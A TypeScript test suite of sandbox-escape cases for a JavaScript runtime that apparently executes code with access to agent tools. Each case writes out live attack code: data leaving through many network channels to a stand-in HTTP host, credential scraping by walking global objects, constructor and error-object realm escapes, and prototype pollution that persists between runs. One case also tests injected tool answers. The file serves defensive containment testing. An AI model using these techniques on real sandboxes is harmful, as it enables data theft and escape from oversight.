// Programs in JavaScript that want the network, the page's storage, another realm, or the next run.

import { CLAIM, type EscapeCase } from "./escape-case.ts";

/** Runs each text as code of its own, so that a name that is not there ends that one only. */
const attempts = (...acts: readonly string[]): string =>
  `const out = []; const attempt = async (act) => { try { out.push(String(await act()).slice(0, 300)) } catch (e) { out.push("refused " + e?.name) } };
${acts.map((act) => `await attempt(async () => ${act});`).join("\n")}
return out.join("; ")`;

/** Says that it escaped when a function made from text finds what only a worker or a page has. */
const climbs = (...makers: readonly string[]): string =>
  attempts(
    ...makers.map(
      (maker) =>
        `{ const make = ${maker}; const found = await make("return ['indexedDB', 'fetch', 'postMessage', 'process', 'navigator'].filter((name) => typeof globalThis[name] !== 'undefined').join()")(); return found ? "${CLAIM.slice(0, 3)}" + "${CLAIM.slice(3)} " + found : "nothing" }`,
    ),
  );

const CLAIMED = `"${CLAIM.slice(0, 3)}" + "${CLAIM.slice(3)}"`;

const network: readonly EscapeCase[] = [
  {
    id: "js-channels",
    covers: ["PUB-NET-03"],
    wants: "any channel of the network",
    code: attempts(
      "new WebSocket(WS + 'socket')",
      "new EventSource(HTTP + 'events')",
      "fetch(HTTP + 'keepalive', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' })",
      "navigator.sendBeacon(HTTP + 'beacon', 'x')",
      "{ const xhr = new XMLHttpRequest(); xhr.open('GET', HTTP + 'xhr', false); xhr.send() }",
      "new WebSocketStream(WS + 'stream').opened",
      "new WebTransport(HTTP.replace('http:', 'https:') + 'transport').ready",
      "new FontFace('leak', 'url(' + HTTP + 'font)').load()",
      "fetchLater(HTTP + 'later', { activateAfter: 0 })",
    ),
    trips: ["network"],
  },
  {
    id: "js-channels-unawaited",
    covers: ["PUB-NET-03"],
    wants: "the network after its end",
    code: "for (const act of [() => fetch(HTTP + 'after-1', { mode: 'no-cors' }), () => new WebSocket(WS + 'after-2')]) setTimeout(() => { try { act()?.catch?.(() => {}) } catch {} }, 1); await new Promise((r) => setTimeout(r, 20)); Promise.resolve().then(() => fetch(HTTP + 'after-3', { mode: 'no-cors' })).catch(() => {}); return 'left'",
    trips: ["network"],
  },
  {
    id: "js-channels-found",
    covers: ["PUB-NET-03"],
    wants: "a channel by walking to it",
    code: `const seen = new Set(), found = []; const walk = (o, depth) => { if (o === null || !/^(object|function)$/.test(typeof o) || seen.has(o) || depth > 6) return; seen.add(o); for (const k of Reflect.ownKeys(o)) { let d; try { d = Reflect.getOwnPropertyDescriptor(o, k) } catch { continue } for (const v of [d?.value, d?.get, d?.set]) { if (typeof v === "function" && /^(fetch|WebSocket|XMLHttpRequest|EventSource|importScripts|Worker)$/.test(v.name)) found.push(v); walk(v, depth + 1) } } walk(Object.getPrototypeOf(o), depth + 1) }; walk(globalThis, 0); const outcome = []; for (const f of found) { try { if (f.name === "fetch") await f(HTTP + "walked", { mode: "no-cors" }); else if (/Socket/.test(f.name)) new f(WS + "walked") } catch (e) { outcome.push(e.name) } } return outcome.length`,
    trips: ["network"],
  },
  {
    id: "js-code-as-request",
    covers: ["PUB-NET-04"],
    wants: "code from elsewhere, whose address is the payload",
    code: attempts(
      "import(HTTP + 'import')",
      "importScripts(HTTP + 'scripts')",
      "(0, eval)('import(\"' + HTTP + 'eval\")')",
      "Function('u', 'return import(u)')(HTTP + 'function')",
      "import('data:text/javascript,import ' + JSON.stringify(HTTP + 'data'))",
      "new Worker(HTTP + 'worker')",
      "new SharedWorker(HTTP + 'shared')",
      "import(HTTP + 'json', { with: { type: 'json' } })",
      "{ const inner = new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(HTTP + 'nested') + ')']))); await new Promise((r) => setTimeout(r, 150)); inner.terminate() }",
      "WebAssembly.instantiateStreaming(fetch(HTTP + 'wasm'))",
      "navigator.serviceWorker.register(HTTP + 'service')",
    ),
    trips: ["network"],
  },
  {
    id: "js-webrtc",
    covers: ["PUB-NET-06"],
    wants: "a datagram by WebRTC",
    code: "const Peer = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection; if (typeof Peer === 'undefined') return 'none'; const pc = new Peer({ iceServers: [{ urls: 'stun:' + STUN }] }); pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); await new Promise((r) => setTimeout(r, 300)); return 'started'",
    trips: ["datagram"],
    realm: "document",
  },
  {
    id: "js-navigates",
    covers: ["PUB-NET-07"],
    wants: "to carry data out by navigating",
    code: "for (const act of [() => { document.documentElement.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + HTTP + 'refresh\">') }, () => { const a = document.createElement('a'); a.href = HTTP + 'link'; a.click() }, () => location.assign(HTTP + 'assign'), () => open(HTTP + 'open')]) { try { act() } catch {} } await new Promise((r) => setTimeout(r, 200)); return 'here'",
    trips: ["network"],
    realm: "document",
  },
];

const storage: readonly EscapeCase[] = [
  {
    id: "js-reads-storage",
    covers: ["PUB-STO-01"],
    wants: "what the page stored",
    code: `const answer = (q) => new Promise((ok, no) => { q.onsuccess = () => ok(q.result); q.onerror = () => no(q.error) });
${attempts(
  "{ const db = await answer(indexedDB.open(PLANTED)); return answer(db.transaction('store').objectStore('store').get('key')) }",
  "(await (await caches.open(PLANTED)).match('/planted')).text()",
  "(await (await (await navigator.storage.getDirectory()).getFileHandle(PLANTED)).getFile()).text()",
  "localStorage.getItem(PLANTED)",
  "(await navigator.locks.query()).held.map((lock) => lock.name).join()",
  "(await cookieStore.getAll()).map((one) => one.value).join()",
)}`,
    trips: ["planted"],
  },
  {
    id: "js-writes-storage",
    covers: ["PUB-STO-01"],
    wants: "to leave something in the page's storage",
    code: attempts(
      "new Promise((ok, no) => { const q = indexedDB.open('left-' + NONCE); q.onsuccess = () => { q.result.close(); ok('wrote') }; q.onerror = () => no(q.error) })",
      "(await caches.open('left-' + NONCE)).put('/x', new Response('x'))",
      "localStorage.setItem('left-' + NONCE, 'x')",
    ),
    trips: ["page"],
  },
  {
    id: "js-speaks-on-channel",
    covers: ["PUB-STO-03"],
    wants: "to talk with the page behind the engine's back",
    code: attempts(
      "new Promise((ok) => { const c = new BroadcastChannel(PLANTED); c.onmessage = (e) => ok(e.data); c.postMessage('hello ' + NONCE); setTimeout(() => ok('silence'), 250) })",
      "postMessage({ forged: NONCE })",
      "parent.postMessage({ forged: NONCE }, '*')",
      "new MessageChannel().port1.postMessage(NONCE)",
    ),
    trips: ["planted", "page"],
  },
  {
    id: "js-takes-credentials",
    covers: ["PUB-SEC-01"],
    wants: "a credential that lies about",
    code: "const seen = new Set(), hits = []; const walk = (o, d) => { if (d > 5 || o === null || !/^(object|function)$/.test(typeof o) || seen.has(o)) return; seen.add(o); let keys = []; try { keys = Reflect.ownKeys(o) } catch {} for (const k of keys) { let v; try { v = o[k] } catch { continue } if (typeof v === 'string' && /secret-/.test(v)) hits.push(v); else if (typeof v === 'function') { if (/secret-/.test(Function.prototype.toString.call(v))) hits.push(String(v)) ; walk(v, d + 1) } else walk(v, d + 1) } }; walk(globalThis, 0); for (const one of [tools, tools.page, tools.page.echo, context, console]) { walk(one, 0); try { hits.push(...(String(one).match(/secret-[\\w-]+/g) ?? [])) } catch {} } return hits",
    trips: ["planted"],
  },
  {
    id: "js-reflected-credentials",
    covers: ["PUB-SEC-02"],
    wants: "a credential that a server reflects",
    code: "const out = []; for (const name of ['headers', 'moved', 'failed', 'thrown']) { try { out.push(JSON.stringify(await tools.reflecting[name]({}))) } catch (e) { out.push([e.message, e.hint, e.stack, JSON.stringify(e), String(e.cause)].join()) } } console.log(out.join()); try { await tools.page.echo({ out }) } catch {} return out.map((x) => x.slice(0, 3000))",
    trips: ["planted"],
  },
  {
    id: "js-injected-answer",
    covers: ["PUB-INJ-01"],
    wants: "that an answer is more than data",
    code: "const text = await tools.page.injected({ http: HTTP }); console.log(text); return text",
    trips: ["network", "page"],
  },
];

const realms: readonly EscapeCase[] = [
  {
    id: "js-constructors",
    covers: ["PUB-ESC-05"],
    wants: "the world by a function's constructor",
    code: climbs(
      "(() => {}).constructor",
      "(async () => {}).constructor",
      "(...a) => Reflect.construct(Function, a)",
      "tools.page.echo.constructor",
      "console.log.constructor",
      "setTimeout.constructor",
      "(text) => (0, eval)('(() => {' + text + '})')",
      "Object.getOwnPropertyDescriptor(Object.prototype, '__proto__').get.constructor",
      "this?.constructor?.constructor ?? Function",
    ),
    trips: ["claim"],
  },
  {
    id: "js-constructors-of-errors",
    covers: ["PUB-ESC-05"],
    wants: "the world by an error of the engine",
    code: `const caught = (act) => { try { act(); return {} } catch (e) { return e } }; const deep = () => deep() + 1;
${climbs(
  "caught(deep).constructor.constructor",
  "caught(() => JSON.parse('{')).constructor.constructor",
  "caught(() => null.x).constructor.constructor",
  "caught(() => structuredClone(() => {})).constructor.constructor",
  "(await import('data:text/javascript,1').catch((e) => e)).constructor.constructor",
  "(await Promise.any([]).catch((e) => e)).errors.constructor.constructor",
  "caught(() => new Array(-1)).constructor.constructor",
)}`,
    trips: ["claim"],
  },
  {
    id: "js-frames",
    covers: ["PUB-ESC-06"],
    wants: "functions and addresses from frames of the stack",
    code: `const seen = []; const note = (text) => { if (/https?:\\/\\/|blob:http|\\/src\\/|node_modules|\\.ts\\b/.test(String(text))) seen.push(${CLAIMED} + " " + text) };
Error.prepareStackTrace = (_e, frames) => frames;
const probe = () => { const frames = new Error("x").stack; if (!Array.isArray(frames)) return note(frames); for (const f of frames) { for (const get of ["getFileName", "getScriptNameOrSourceURL", "getEvalOrigin", "toString"]) { try { note(f[get]()) } catch {} } for (const get of ["getThis", "getFunction"]) { try { const v = f[get](); if (typeof v?.postMessage === "function") seen.push(${CLAIMED}); } catch {} } } };
probe(); await null; probe(); [1].forEach(probe); Error.captureStackTrace?.(globalThis.o = {}); note(globalThis.o?.stack); Error.prepareStackTrace = undefined; note(new Error("x").stack); return seen`,
    trips: ["claim"],
  },
  {
    id: "js-errors-of-tools",
    covers: ["PUB-ESC-07"],
    wants: "the page's realm, or its addresses, by the error of a tool",
    code: `const out = []; let failure; try { await tools.page.fail({ message: NONCE }) } catch (e) { failure = e }
for (const one of [failure, Object.getPrototypeOf(failure), tools.page.echo, await tools.page.echo({ a: 1 }), tools.page.echo({}), failure.cause]) { try { const names = one.constructor.constructor("return ['indexedDB', 'fetch', 'postMessage'].filter((name) => typeof globalThis[name] !== 'undefined').join()")(); if (names) out.push(${CLAIMED} + names) } catch (e) { out.push(e.name) } }
const text = [failure.stack, failure.message, JSON.stringify(failure), ...Object.getOwnPropertyNames(failure).map((k) => String(failure[k]))].join(); if (/https?:\\/\\/|\\/src\\/|node_modules|\\.ts:/.test(text)) out.push(${CLAIMED} + text.slice(0, 100)); return out`,
    trips: ["claim"],
  },
  {
    id: "js-values-with-code",
    covers: ["PUB-RPC-09"],
    wants: "code of its values run by the page",
    code: `const v = [{ then(r) { r({ stolen: 1 }) } }, { get a() { return globalThis }, toJSON() { return { b: 2 } } }, new Proxy({}, { ownKeys: () => ["x"], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: (_t, k) => (k === "x" ? () => globalThis : undefined) }), () => 1, Symbol("s"), 10n ** 30n, new (class A { constructor() { this.me = this } })(), new Proxy(function () {}, {}), { toString() { throw 1 }, valueOf() { throw 2 } }, Object.create({ inherited: 1 }), [, , 1], new Date(NaN), new Map([[{}, {}]]), -0, { toJSON: () => ({ toJSON: () => 1 }) }, Object.defineProperty({}, "__proto__", { value: { polluted: 1 }, enumerable: true })];
const out = []; for (const one of v) { try { out.push(JSON.stringify(await tools.page.echo({ v: one })).slice(0, 60)) } catch (e) { out.push("E " + e.name) } } return out`,
    trips: ["errors"],
  },
  {
    id: "js-value-with-code",
    covers: ["PUB-RPC-09"],
    wants: "its value awaited, walked or printed by the page",
    code: "return { get a() { return { then(done) { done(1) } } }, big: [10n], toJSON: undefined, f() {} }",
    trips: ["no_end"],
  },
];

const leavings: readonly EscapeCase[] = [
  {
    id: "js-pollutes",
    covers: ["PUB-POI-03"],
    wants: "its prototypes in the next run",
    code: "Object.prototype[NONCE] = 'LEFT'; Object.prototype.left = 'LEFT'; globalThis.left2 = 'LEFT'; Array.prototype.map = () => ['LEFT']; JSON.stringify = () => '\"LEFT\"'; return 'armed'",
    afterwards: {
      code: "return [({}).left ?? null, typeof left2, [1].map((x) => x + 1)[0], JSON.stringify([1])]",
      clean: [null, "undefined", 2, "[1]"],
    },
    trips: ["next_run"],
  },
  {
    id: "js-pollutes-the-runtime",
    covers: ["PUB-POI-03"],
    wants: "the code beside it to stumble over its prototypes",
    code: `for (const key of ["type", "run", "outcome", "status", "json", "calls", "logs", "error", "code", "value", "then", "id", "ok", "get", "set", "message", "credits", "command", "limits"]) { try { Object.defineProperty(Object.prototype, key, { get() { return "LEFT" }, set() {}, configurable: true }) } catch {} }
Promise.prototype.then = function (f) { f?.("LEFT"); return this }; Array.prototype[Symbol.iterator] = function* () { yield "LEFT" }; Function.prototype.call = Function.prototype.apply = () => "LEFT"; Reflect.apply = Reflect.get = () => "LEFT"; globalThis.setTimeout = globalThis.Promise = globalThis.Map = undefined; String.prototype.slice = () => "LEFT"; throw new Error("armed")`,
    // What it breaks is its own way to an end: then its time ends it.
    ends: /^(?:returned|threw [45]00 .*|stopped\/(?:timeout 408|crashed 500|security 403))$/,
    afterwards: {
      code: "return [({}).json ?? null, [...[1]], [1].map((x) => x + 1)[0], 'ab'.slice(1), typeof Map]",
      clean: [null, [1], 2, "b", "function"],
    },
    trips: ["next_run"],
  },
  {
    id: "js-shadows-tools",
    covers: ["PUB-POI-03"],
    wants: "the next run's tools",
    code: "for (const act of [() => { tools.page.echo = () => ({ mark: 'LEFT' }) }, () => { globalThis.tools = { page: { echo: () => ({ mark: 'LEFT' }) } } }, () => { Object.defineProperty(globalThis, 'tools', { value: {}, configurable: false }) }, () => { Object.getPrototypeOf(tools.page).echo = 'LEFT' }, () => { Object.prototype.page = { echo: () => ({ mark: 'LEFT' }) } }, () => { globalThis.Proxy = undefined }]) { try { act() } catch {} } return 'armed'",
    afterwards: {
      code: "return [typeof Proxy, ({}).page ?? null, (await tools.page.echo({ mark: 'benign-next' })).mark]",
      clean: ["function", null, "benign-next"],
    },
    trips: ["next_run"],
  },
];

export const JAVASCRIPT_ESCAPES: readonly EscapeCase[] = [...network, ...storage, ...realms, ...leavings];
